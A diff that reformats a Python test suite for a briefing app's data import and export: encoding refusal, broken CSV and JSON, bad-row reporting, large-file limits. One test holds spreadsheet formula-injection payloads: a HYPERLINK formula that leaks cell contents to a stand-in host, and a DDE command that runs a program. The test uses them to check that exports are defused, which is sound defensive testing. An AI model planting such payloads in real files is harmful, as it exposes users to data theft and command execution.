@@ -33,7 +33,7 @@ CLUSTER = {
     "local_name": "Cụm nhập khẩu",
     "sectors": "aquaculture;seaweed",
     "established": "2015",
-    "description": "Line one,\nline two; with \"quotes\".",
+    "description": 'Line one,\nline two; with "quotes".',
     "source": "freedonia-cluster-survey",
 }
 
@@ -42,8 +42,13 @@ def snapshot(path: Path) -> list:
     """Every row of every table (search index aside), to prove nothing changed."""
     conn = sqlite3.connect(path)
     try:
-        tables = [t for (t,) in conn.execute(
-            "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'search_index%' ORDER BY name")]
+        tables = [
+            t
+            for (t,) in conn.execute(
+                "SELECT name FROM sqlite_master WHERE type = 'table' "
+                "AND name NOT LIKE 'search_index%' ORDER BY name"
+            )
+        ]
         return [(t, list(conn.execute(f"SELECT * FROM [{t}] ORDER BY 1"))) for t in tables]
     finally:
         conn.close()
@@ -78,7 +83,9 @@ def test_excel_utf8_csv_with_bom_crlf_and_semicolons(tiny_store, tmp_path):
 @pytest.mark.parametrize("encoding", ["cp1252", "latin-1", "utf-16"])
 def test_legacy_encodings_are_refused_with_the_line_not_guessed(tiny_store, tmp_path, encoding):
     rows = [dict(CLUSTER, slug=f"ok-{i}", local_name="", description="plain") for i in range(3)]
-    rows.append(dict(CLUSTER, slug="zurich", name="Zürich café cluster", local_name="", description="plain"))
+    rows.append(
+        dict(CLUSTER, slug="zurich", name="Zürich café cluster", local_name="", description="plain")
+    )
     path = write_rows(tmp_path / "legacy.csv", rows, encoding=encoding)
     error = refused(tiny_store, "clusters", path)
     [problem] = error.problems
@@ -87,24 +94,41 @@ def test_legacy_encodings_are_refused_with_the_line_not_guessed(tiny_store, tmp_
 
 
 def test_formula_cells_are_kept_as_text_and_exported_defused(tiny_store, tmp_path):
-    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
-                "=cmd|' /C calc'!A0"]
-    rows = [dict(CLUSTER, slug=f"formula-{i}", name=f, description="") for i, f in enumerate(formulas)]
+    formulas = [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "=cmd|' /C calc'!A0",
+    ]
+    rows = [
+        dict(CLUSTER, slug=f"formula-{i}", name=f, description="") for i, f in enumerate(formulas)
+    ]
     assert tiny_store.import_file("clusters", write_rows(tmp_path / "f.csv", rows)) == len(formulas)
-    assert [tiny_store.get("clusters", f"formula-{i}").name for i in range(len(formulas))] == formulas
+    assert [
+        tiny_store.get("clusters", f"formula-{i}").name for i in range(len(formulas))
+    ] == formulas
     exported = tmp_path / "out.csv"
     tiny_store.export_file("clusters", exported)
     with open(exported, encoding="utf-8", newline="") as handle:
-        names = [row["name"] for row in csv.DictReader(handle) if row["slug"].startswith("formula-")]
+        names = [
+            row["name"] for row in csv.DictReader(handle) if row["slug"].startswith("formula-")
+        ]
     assert names and not any(n[:1] in "=+-@" for n in names), "a spreadsheet must not run them"
     tiny_store.import_file("clusters", exported)  # and the round trip gives the same text back
-    assert sorted(tiny_store.get("clusters", f"formula-{i}").name for i in range(len(formulas))) == sorted(formulas)
+    assert sorted(
+        tiny_store.get("clusters", f"formula-{i}").name for i in range(len(formulas))
+    ) == sorted(formulas)
 
 
 # -- broken files -------------------------------------------------------------------------
 
 BROKEN = {
-    "unterminated-quote": (b'slug,title\nok,Fine\nbad,"never closed\nmore text\n', 4, "not valid CSV"),
+    "unterminated-quote": (
+        b'slug,title\nok,Fine\nbad,"never closed\nmore text\n',
+        4,
+        "not valid CSV",
+    ),
     "field-beyond-the-csv-limit": (b"slug,title\nok," + b"x" * 200_000 + b"\n", 2, "not valid CSV"),
     "header-only-names-twice": (b"slug,title,title\nok,A,B\n", 1, "column appears twice"),
     "empty-file": (b"", 0, "empty"),
@@ -121,10 +145,16 @@ def test_broken_files_are_refused_with_a_line(tiny_store, tmp_path, case):
     assert error.problems[0].line == line and words in error.problems[0].message
 
 
-@pytest.mark.xfail(strict=True, raises=RecursionError, reason=(
-    "deeply nested JSON escapes as a raw RecursionError (a traceback on the command line) instead "
-    "of an ImportValidationError: briefing_app/store/io.py, iter_json, catch RecursionError around "
-    "decoder.raw_decode and raise FileProblem(line, 'JSON nested too deeply')"))
+@pytest.mark.xfail(
+    strict=True,
+    raises=RecursionError,
+    reason=(
+        "deeply nested JSON escapes as a raw RecursionError (a traceback on the command "
+        "line) instead of an ImportValidationError: briefing_app/store/io.py, iter_json, "
+        "catch RecursionError around "
+        "decoder.raw_decode and raise FileProblem(line, 'JSON nested too deeply')"
+    ),
+)
 def test_deeply_nested_json_is_a_clear_problem(tiny_store, tmp_path):
     path = tmp_path / "deep.json"
     path.write_bytes(b"[" + b"[" * 100_000 + b"]" * 100_000 + b"]")
@@ -134,7 +164,9 @@ def test_deeply_nested_json_is_a_clear_problem(tiny_store, tmp_path):
 
 def test_json_that_is_not_a_list_of_objects(tiny_store, tmp_path):
     path = tmp_path / "odd.json"
-    path.write_text('[\n  {"slug": "a", "title": "A"},\n  "just text",\n  42\n]\n', encoding="utf-8")
+    path.write_text(
+        '[\n  {"slug": "a", "title": "A"},\n  "just text",\n  42\n]\n', encoding="utf-8"
+    )
     error = refused(tiny_store, "sources", path)
     assert [p.line for p in error.problems] == [3, 4]
 
@@ -142,7 +174,9 @@ def test_json_that_is_not_a_list_of_objects(tiny_store, tmp_path):
 # -- missing and extra columns, dangling references, all or nothing -------------------
 
 
-def test_bad_rows_hidden_in_a_big_good_file_are_all_reported_and_nothing_is_written(tiny_store, tmp_path):
+def test_bad_rows_hidden_in_a_big_good_file_are_all_reported_and_nothing_is_written(
+    tiny_store, tmp_path
+):
     rows = [dict(CLUSTER, slug=f"good-{i}", description="") for i in range(2000)]
     rows[100] = dict(rows[100], region="atlantis")  # line 102
     rows[999] = dict(rows[999], sectors="aquaculture;no-such-sector")  # line 1001
@@ -189,8 +223,14 @@ def test_a_hundred_thousand_rows_in_bounded_memory_and_time(tiny_store, tmp_path
         writer = csv.writer(handle)
         writer.writerow(["slug", "title", "publisher", "published"])
         for i in range(ROWS):
-            writer.writerow([f"source-{i:06d}", f"Statistical note number {i}, on Freedonian harbours", "Office",
-                             str(1990 + i % 35)])
+            writer.writerow(
+                [
+                    f"source-{i:06d}",
+                    f"Statistical note number {i}, on Freedonian harbours",
+                    "Office",
+                    str(1990 + i % 35),
+                ]
+            )
     started = time.monotonic()
     tracemalloc.start()
     try:
@@ -200,5 +240,7 @@ def test_a_hundred_thousand_rows_in_bounded_memory_and_time(tiny_store, tmp_path
         tracemalloc.stop()
     seconds = time.monotonic() - started
     assert peak < 200 * 1024 * 1024, f"peak {peak / 1e6:.0f} MB"
-    assert seconds < 60, f"{seconds:.1f} s"  # generous for slow machines; about 10 s here with tracing on
+    assert seconds < 60, (
+        f"{seconds:.1f} s"
+    )  # generous for slow machines; about 10 s here with tracing on
     assert tiny_store.counts()["sources"] == ROWS + 2
